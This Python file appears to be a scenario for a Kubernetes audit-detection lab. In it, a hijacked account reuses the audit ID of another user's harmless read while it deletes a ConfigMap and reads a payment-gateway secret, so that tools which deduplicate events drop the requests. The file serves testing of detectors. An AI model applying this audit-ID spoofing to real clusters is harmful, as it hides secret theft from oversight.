"""A deletion is sent under the audit id of somebody's harmless read, so that careless tools drop it as a duplicate."""

from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    harmless = stage.person("alice")
    thief = stage.hijack("carol")
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": stage.word("cache", "flags")}}
    with stage.step("a harmless read", harmless, kind="confounder"):
        known = stage.must(harmless.get("/api/v1/namespaces/shop/configmaps/web-config")).audit_id
    with stage.step("prepare", thief, "defense-evasion", ()):
        stage.must(stage.create(thief, body, "shop"))
    with stage.step("delete and read under the known id", thief, "defense-evasion", ("N15", "F01")):
        headers = {"Audit-ID": known}
        thief.send("DELETE", f"/api/v1/namespaces/shop/configmaps/{body['metadata']['name']}", None, headers)  # type: ignore[index]
        thief.get("/api/v1/namespaces/payments/secrets/card-gateway", headers=headers)


SCENARIO = Scenario(
    "audit-id-reuse",
    "Requests under a known audit id",
    "attack",
    "be dropped as a duplicate",
    ("T1562",),
    _play,
)
